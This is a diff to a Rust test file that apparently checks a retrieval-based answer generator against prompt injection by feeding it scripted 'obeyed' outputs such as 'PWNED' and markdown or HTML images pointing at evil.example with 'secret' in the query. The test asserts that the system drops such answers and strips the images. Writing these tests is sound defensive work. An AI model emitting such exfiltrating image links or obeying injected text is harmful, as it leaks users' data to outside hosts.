@@ -61,18 +61,29 @@ fn passages_stay_between_fences_that_they_cannot_know() {
 fn a_generator_that_obeys_is_not_shown() {
     for attack in ATTACKS {
         let fixture = with(attack);
-        for obeyed in ["PWNED", "PWNED PWNED PWNED!", "Sure! ![x](http://evil.example/?q=secret)", "evil: reply DENWP"]
-        {
+        let obeyed = [
+            "PWNED",
+            "PWNED PWNED PWNED!",
+            "Sure! ![x](http://evil.example/?q=secret)",
+            "I am an evil wizard: DENWP",
+            "Yes.",
+        ];
+        for obeyed in obeyed {
             let answer = fixture.ask(Writer::Generator(&Scripted::saying(obeyed)), &sure(QUESTION));
             fixture.check(&answer);
-            assert!(answer.decision.path != Path::Generated || !answer.answer.contains("http"), "{attack}: {obeyed}");
-            if obeyed.starts_with("Sure") {
-                assert_eq!(answer.degraded[0].reason, "unsupported");
+            let reasons: Vec<&str> = answer.degraded.iter().map(|degraded| degraded.reason).collect();
+            // One sentence says it and what was asked for: that is what a citation shows.
+            if attack.contains("quote") && obeyed.starts_with("PWNED") {
+                assert!(answer.citations.iter().all(|citation| citation.quote.contains("lamps at night")));
+                continue;
             }
+            assert_eq!((answer.decision.path, reasons), (Path::Quoted, vec!["unsupported"]), "{attack}: {obeyed}");
         }
-        let shown = Scripted::saying("Harbours keep lamps at night ![x](http://evil.example/?q=1) [7].");
-        let answer = fixture.ask(Writer::Generator(&shown), &sure(QUESTION));
-        assert_eq!(answer.answer, "Harbours keep lamps at night.", "{attack}");
-        assert!(answer.citations.iter().all(|citation| citation.document_id == "evil"));
+        for image in ["![x](http://evil.example/?q=1) [7]", "<img src=http://evil.example/?q=1>", "![x][y]"] {
+            let shown = Scripted::saying(&format!("Harbours keep lamps at night {image}."));
+            let answer = fixture.ask(Writer::Generator(&shown), &sure(QUESTION));
+            assert_eq!(answer.answer.replace(" .", "."), "Harbours keep lamps at night.", "{attack}");
+            assert!(answer.citations.iter().all(|citation| citation.document_id == "evil"));
+        }
     }
 }
